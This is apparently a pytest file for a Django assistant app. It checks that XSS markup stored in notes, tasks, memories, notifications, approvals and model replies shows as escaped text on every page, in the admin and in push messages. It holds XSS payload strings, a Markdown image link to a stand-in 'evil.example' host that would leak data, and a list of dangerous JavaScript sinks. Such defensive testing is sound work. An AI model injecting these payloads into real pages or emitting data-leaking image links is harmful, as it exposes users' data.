"""Stored text is inert wherever it is shown: markup that a hostile note, task, memory,
notification or model reply carries reaches every page, the admin and the push message as text,
never as an element that runs."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from agent.executor import ToolExecutor
from agent.models import Conversation, Message
from approvals.models import PendingAction
from memory import services as memory_services
from talorys.history.models import Change
from talorys.lib.tools import ToolContext
from talorys.notifications import push
from talorys.notifications import services as notify
from talorys.providers.base import ToolCall
from talorys.workspace import services

XSS = "<script>alert(1)</script><img src=x onerror=alert(2)>"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
# What an obeyed "show this image" would leak the owner's data through, had images been allowed.
LEAK = "![chart](https://evil.example/c?data=secret)"
STATIC = Path(__file__).resolve().parents[2] / "static" / "talorys"


def assert_inert(html: str, where: str) -> None:
    assert "<script>alert" not in html, where
    assert not re.search(r"<img[^>]*onerror", html, re.IGNORECASE), where
    assert ESCAPED in html, f"{where}: the text itself is not shown"


@pytest.fixture
def hostile(db) -> dict[str, Any]:
    """One item of every kind carrying the markup, some of it written by the model."""
    conversation = Conversation.objects.create(title=f"Chat {XSS}")
    reply = Message.objects.create(
        conversation=conversation,
        role="assistant",
        content=f"Sure. {LEAK} {XSS}",
        status="complete",
    )
    executor = ToolExecutor(
        ctx=ToolContext(conversation_id=conversation.pk, message_id=reply.pk), max_tool_calls=9
    )

    def model(tool: str, /, **arguments: Any) -> dict[str, Any]:
        return executor.execute(ToolCall(id="c", name=tool, arguments=arguments)).result

    note = services.note_create(title=f"Plan {XSS}", content=f"# Plan\n\n{XSS}")
    binned = services.note_create(title=f"Old {XSS}")
    services.note_delete(note_id=binned.pk)
    services.project_create(name=f"Project {XSS}")
    memory = memory_services.memory_create_unchecked(text=f"Memory {XSS}")
    notification = notify.notification_send(title=f"Alert {XSS}", body=XSS)
    task = model("create_task", title=f"Task {XSS}", details=XSS)["task"]
    model("rename_note", note_id=note.pk, title=f"Renamed {XSS}")
    model("rewrite_note", note_id=note.pk, content=f"{XSS} rewritten")  # waits for approval
    automation = model(
        "create_automation",
        name=f"Remind {XSS}",
        message=XSS,
        schedule={"type": "daily", "time": "08:00"},
    )["automation"]
    return {
        "conversation": conversation,
        "note": note,
        "task_id": task["id"],
        "automation_id": automation["id"],
        "memory": memory,
        "notification": notification,
    }


def test_the_owner_s_pages_show_it_as_text(client, owner, hostile):
    client.force_login(owner)
    pages = [
        "/notes/",
        f"/notes/{hostile['note'].pk}/",
        "/tasks/",
        f"/tasks/{hostile['task_id']}/",
        "/projects/",
        "/memories/",
        f"/memories/{hostile['memory'].pk}/",
        "/notifications/",
        "/changes/",
        "/approvals/",
        "/approvals/?show=audit",
        "/bin/",
        "/automations/",
        f"/automations/{hostile['automation_id']}/",
    ]
    for path in pages:
        response = client.get(path)
        assert response.status_code == 200, path
        assert_inert(response.content.decode(), path)


def test_the_chat_gets_the_reply_s_html_sanitised(api, hostile):
    shown = api.get(f"/api/conversations/{hostile['conversation'].pk}").json()
    [reply] = shown["messages"]
    assert_inert(reply["html"], "the reply's html")
    assert "<img" not in reply["html"]
    assert reply["content"] == f"Sure. {LEAK} {XSS}"  # the source stays as written, for editing


def test_the_admin_shows_it_as_text(db, django_user_model, hostile):
    operator = django_user_model.objects.create_superuser(username="operator", password="x" * 12)
    client = Client()
    client.force_login(operator)
    pages = [
        f"/admin/workspace/note/{hostile['note'].pk}/change/",
        f"/admin/workspace/task/{hostile['task_id']}/change/",
        f"/admin/memory/memory/{hostile['memory'].pk}/change/",
        f"/admin/notifications/notification/{hostile['notification'].pk}/change/",
        "/admin/workspace/note/",
        "/admin/workspace/task/",
        "/admin/memory/memory/",
        "/admin/notifications/notification/",
        "/admin/history/change/",
        "/admin/approvals/pendingaction/",
        f"/admin/approvals/pendingaction/{PendingAction.objects.get().pk}/change/",
        f"/admin/history/change/{Change.objects.filter(source='chat').first().pk}/change/",
    ]
    for path in pages:
        response = client.get(path)
        assert response.status_code == 200, path
        assert_inert(response.content.decode(), path)


def test_a_push_message_carries_it_as_data_and_the_service_worker_shows_it_as_text(hostile):
    notification = hostile["notification"]
    sent = json.loads(push._payload(notification))
    assert (sent["title"], sent["body"]) == (f"Alert {XSS}", XSS)  # data, exactly as stored
    assert notify.notification_payload(notification)["title"] == f"Alert {XSS}"
    worker = (STATIC / "sw.js").read_text()
    # The system notification's title and body are plain text by definition.
    assert "showNotification(data.title" in worker and "body: data.body" in worker
    panel = (STATIC / "js" / "notifications.js").read_text()
    # The panel's one HTML sink is the body's server-side rendering (Markdown through nh3), in
    # which the stored markup arrives as text; the title and everything else are set as text.
    rendered = notify.notification_payload(notification)["body_html"]
    assert "<script" not in rendered and "<img" not in rendered and "&lt;script&gt;" in rendered
    panel = panel.replace("body.innerHTML = n.body_html;", "")
    for script, source in [("sw.js", worker), ("notifications.js", panel)]:
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
            assert sink not in source, (script, sink)
